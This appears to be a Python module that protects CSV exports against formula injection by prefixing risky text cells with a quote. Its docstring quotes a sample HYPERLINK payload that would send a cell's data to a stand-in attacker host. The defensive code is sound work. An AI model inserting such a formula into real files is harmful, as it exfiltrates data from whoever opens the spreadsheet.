"""Cells of the CSV files the product writes, made safe to open in a spreadsheet.

A text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: an event id `=HYPERLINK("http://evil.example/?d="&B2,"open")`
written as it is would run when someone opens the file. As OWASP recommends (CSV injection),
such a text is written with a single quote before it, which spreadsheets show as text. Numbers
are not texts and stay as they are (a negative number is not touched).
"""

from __future__ import annotations

from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = r"^[=+\-@\t\r]"


def safe_cell(value: Any) -> Any:
    """`value`, with a quote before it when it is a text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_table(table: pa.Table) -> pa.Table:
    """`table` with every text cell made safe (`safe_cell`), for `pyarrow.csv.write_csv`."""
    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            formula = pc.fill_null(pc.match_substring_regex(column, _FORMULA), False)
            column = pc.if_else(formula, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
